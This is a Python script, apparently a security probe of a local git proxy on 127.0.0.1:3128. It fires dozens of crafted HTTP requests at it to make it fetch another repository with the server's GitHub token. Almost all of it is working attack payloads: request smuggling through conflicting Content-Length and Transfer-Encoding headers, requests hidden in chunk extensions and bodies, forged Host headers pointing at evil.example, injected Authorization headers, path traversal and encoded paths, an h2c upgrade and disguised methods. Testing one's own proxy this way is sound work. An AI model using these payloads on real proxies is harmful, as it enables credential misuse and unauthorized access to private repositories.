"""
Asks the toolbox's listener on 127.0.0.1:3128 for the repository in ways that the listener, the server and GitHub might
read differently: two lengths, a length and chunks, chunk extensions, a second request behind the first or inside its
body, folded and doubled headers, whole URLs as targets, encoded and climbing paths, methods in disguise.
Success: GitHub is asked, with the server's token, for another repository, for another service, or for anything that is
not exactly one of the two requests of a fetch.
"""
import gzip, socket
from concurrent.futures import ThreadPoolExecutor

OWN, OTHER = '/acme/books.git', '/acme/secret.git'
REFS, FETCH = '/info/refs?service=git-upload-pack', '/git-upload-pack'
TYPE = 'Content-Type: application/x-git-upload-pack-request\r\n'
inner = f'GET {OTHER}{REFS} HTTP/1.1\r\nHost: x\r\n\r\n'


def post(path, headers, body=''):
    return f'POST {path} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n{TYPE}{headers}\r\n{body}'


def get(target, headers=''):
    return f'GET {target} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n{headers}\r\n'


chunked = f'{len(inner):x}\r\n{inner}\r\n0\r\n\r\n'
attempts = [
    # Where one request ends and the next begins.
    post(OWN + FETCH, f'Content-Length: 4\r\nContent-Length: {len(inner) + 4}\r\n', '0000' + inner),
    post(OWN + FETCH, f'Content-Length: {len(inner) + 4}\r\nTransfer-Encoding: chunked\r\n', '0\r\n\r\n' + inner),
    post(OWN + FETCH, 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n', chunked + inner),
    post(OWN + FETCH, 'Transfer-Encoding: \x0bchunked\r\nContent-Length: 4\r\n', '0000' + inner),
    post(OWN + FETCH, 'Transfer-Encoding : chunked\r\nContent-Length: 4\r\n', '0000' + inner),
    post(OWN + FETCH, 'Transfer-Encoding: chunked\r\n', f'4;x="\r\n{inner}"\r\n0000\r\n0\r\n\r\n' + inner),
    post(OWN + FETCH, 'Transfer-Encoding: chunked\r\n', f'0\r\nX: y\r\nHost: evil.example\r\n\r\n{inner}'),
    post(OWN + FETCH, f'Content-Length: +4\r\n', '0000' + inner), post(OWN + FETCH, 'Content-Length: 4,4\r\n', '0000' + inner),
    post(OWN + FETCH, f'Content-Length: {len(inner)}\r\n', inner), get(OWN + REFS, 'Content-Length: 4\r\n') + '0000' + inner,
    get(OWN + REFS) + inner, get(OWN + REFS, 'Expect: 100-continue\r\nContent-Length: 9\r\n') + inner,
    # Headers that would reach GitHub, or change what it is asked.
    get(OWN + REFS, 'X: y\r\n Authorization: Basic c3RvbGVu\r\n'), get(OWN + REFS, 'Authorization: Basic c3RvbGVu\r\n'),
    get(OWN + REFS, 'Git-Protocol: version=2\rX-Forged: yes\r\n'), get(OWN + REFS, 'Git-Protocol: version=2\nX-Forged: yes\r\n'),
    get(OWN + REFS, 'Host: evil.example\r\n'), get(OWN + REFS, 'X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n'),
    get(OWN + REFS, 'X-HTTP-Method-Override: DELETE\r\nX-Original-URL: ' + OTHER + REFS + '\r\n'),
    get(OWN + REFS, 'x-backspace-target: http%3A%2F%2Fevil.example%2F\r\n'), get(OWN + REFS, ':path: ' + OTHER + REFS + '\r\n'),
    get(OWN + REFS, 'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n'),
    post(OWN + FETCH, f'Content-Encoding: gzip\r\nContent-Length: {len(gzip.compress(inner.encode()))}\r\n')
    + gzip.compress(inner.encode()).decode('latin1'),
    # Other words for another repository, or another service.
    *(
        get(target)
        for target in (
            OTHER + REFS, f'{OWN}/..{OTHER[5:]}{REFS}', f'{OWN}/%2e%2e{OTHER[5:]}{REFS}', f'{OWN}%2f..%2fsecret.git{REFS}',
            f'/acme/books.git;/../secret.git{REFS}', f'//acme/secret.git{REFS}', f'/./acme/books.git{REFS}', f'{OWN}{REFS}&x=y',
            f'{OWN}{REFS}%00', f'{OWN}{REFS}#x', f'http://127.0.0.1:3128{OTHER}{REFS}', f'http://127.0.0.1:3128{OWN}{REFS}',
            f'http://evil.example{OWN}{REFS}', OWN + '/info/refs?service=git-receive-pack', OWN + '/info/refs', '/acme/books' + REFS,
            OWN + '/info/refs?service=git-upload-pack&service=git-receive-pack', OWN + '/objects/info/alternates', '/api/v3/user',
        )
    ),
    *(post(path, 'Content-Length: 4\r\n', '0000') for path in (OTHER + FETCH, OWN + '/git-receive-pack', OWN + '/../secret.git' + FETCH)),
    *(
        f'{method} {OWN}{REFS} HTTP/1.1\r\nHost: x\r\n\r\n'
        for method in ('PUT', 'DELETE', 'PATCH', 'HEAD', 'PROPFIND', 'TRACE', 'SOURCE', 'QUERY', 'get', f'GET {OTHER}{REFS} HTTP/1.1\r\nX: ')
    ),
]


def attempt(request):
    said = b''
    try:
        with socket.create_connection(('127.0.0.1', 3128), 5) as connection:
            connection.sendall(request.encode('latin1'))
            # Not ended on this side, which would count as given up; whatever comes after half a second is a second answer.
            connection.settimeout(3)
            while piece := connection.recv(65536):
                said += piece
                connection.settimeout(0.5)
    except OSError as error:
        said += type(error).__name__.encode()
    return said


with ThreadPoolExecutor(16) as pool:
    for request, said in zip(attempts, pool.map(attempt, attempts)):
        print(repr(request.splitlines()[0][:80]), repr(said[:300]))
print(f'-- {len(attempts)} requests')
